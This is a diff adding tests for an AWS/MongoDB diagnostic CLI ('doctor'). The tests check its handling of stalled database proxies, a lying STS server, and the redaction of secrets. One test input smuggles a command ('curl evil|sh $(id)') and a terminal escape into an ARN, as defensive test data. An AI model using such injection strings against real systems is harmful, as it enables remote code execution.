@@ -1,6 +1,8 @@
 import { execFileSync, spawn } from 'node:child_process';
 import { once } from 'node:events';
 import { mkdirSync, writeFileSync } from 'node:fs';
+import { createServer as createHttpServer } from 'node:http';
+import { type AddressInfo, connect, createServer } from 'node:net';
 import { join } from 'node:path';
 import { createTemporaryFolder, type TemporaryFolder } from '@atlas-aws-iam/command';
 import { type Sandbox, startSandbox } from '@atlas-aws-iam/sandbox';
@@ -96,6 +98,96 @@ describe('it ends with a verdict, without a stack, and repeats no secret', () =>
     expect(linksOf(run)[1]?.evidence.join()).toContain('which is a directory');
   });
 });
+
+/** Stands between the doctor and the sandbox, and passes on only so many pieces of what the doctor says. */
+async function listenSilent(pieces: number): Promise<string> {
+  const server = createServer((near) => {
+    const far = connect(mongoPort(), '127.0.0.1');
+    let left = pieces;
+    near
+      .on('data', (data) => {
+        if (left > 0) far.write(data);
+        left -= 1;
+      })
+      .on('error', () => {});
+    far.on('data', (data) => near.write(data)).on('error', () => {});
+    onTestFinished(() => {
+      near.destroy();
+      far.destroy();
+    });
+  }).listen(0, '127.0.0.1');
+  onTestFinished(() => void server.close());
+  await once(server, 'listening');
+  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
+
+const mongoPort = () => Number(new URL(sandbox.mongodbUri.replace('mongodb:', 'http:')).port);
+
+describe('a server that falls silent in the middle', () => {
+  test.each([0, 1, 2, 3])('after %i messages', async (pieces) => {
+    const host = await listenSilent(pieces);
+    const run = await runDoctor(['--json'], {
+      env: { ...env, AWS_MONGO_CLUSTER_URL: `mongodb://${host}/?serverSelectionTimeoutMS=500` },
+    });
+    expect(run.exitCode).toBe(1);
+  });
+});
+
+describe('an STS that lies', () => {
+  const answer = (arn: string) =>
+    `<GetCallerIdentityResponse xmlns="https://sts.amazonaws.com/doc/2011-06-15/"><GetCallerIdentityResult><Arn>${arn}</Arn></GetCallerIdentityResult></GetCallerIdentityResponse>`;
+
+  test.each([
+    'arn:aws:sts::123456789012:assumed-role/x;curl evil|sh $(id)/s',
+    'arn:aws:iam::123456789012:user/x&#155;[31m',
+    `arn:aws:iam::123456789012:user/${SECRET}`,
+  ])('its ARN is neither a command nor a colour nor a secret: %s', async (arn) => {
+    const server = createHttpServer((_, response) => response.end(answer(arn))).listen(0, '127.0.0.1');
+    onTestFinished(() => void server.close());
+    await once(server, 'listening');
+    const { port } = server.address() as AddressInfo;
+    const run = await runDoctor(['--verbose'], {
+      env: {
+        ...env,
+        AWS_ACCESS_KEY_ID: 'AKIAIOSFODNN7EXAMPLE',
+        AWS_SECRET_ACCESS_KEY: SECRET,
+        AWS_SESSION_TOKEN: undefined,
+        AWS_ENDPOINT_URL_STS: `http://127.0.0.1:${port}`,
+      },
+    });
+    expect(run.stdout).not.toMatch(/curl|\u009b/);
+    expect(run.stdout).not.toContain(SECRET);
+  });
+});
+
+test('a setting that the SDK alone cannot take is a remark', async () => {
+  const run = await runDoctor(['--json'], { env: { ...env, AWS_DEFAULTS_MODE: 'bogus' } });
+  expect(run.exitCode).toBe(0);
+});
+
+test('a database’s name that is a secret is hidden', async () => {
+  const secret = 'ZSK7Gk9eMUPm4K4DN1BzH9Wqxt0aVs8Rb2Lc5Yf3';
+  const run = await runDoctor(['--verbose'], { env: { ...env, AWS_MONGO_DATABASE: secret } });
+  expect(run.stdout).not.toContain(secret);
+});
+
+test.skipIf(process.platform === 'win32')(
+  'a server on a socket of the file system is reached there',
+  async () => {
+    const path = join(folder.path, 'm.sock');
+    const server = createServer((near) => {
+      const far = connect(mongoPort(), '127.0.0.1');
+      near.pipe(far).on('error', () => {});
+      far.pipe(near).on('error', () => {});
+    }).listen(path);
+    onTestFinished(() => void server.close());
+    await once(server, 'listening');
+    const run = await runDoctor(['--json'], {
+      env: { ...env, AWS_MONGO_CLUSTER_URL: `mongodb://${encodeURIComponent(path)}/` },
+    });
+    expect(run.exitCode).toBe(0);
+  },
+);
 
 test.skipIf(process.platform === 'win32')(
   'a pipe that nobody writes to keeps it from ending at no signal',
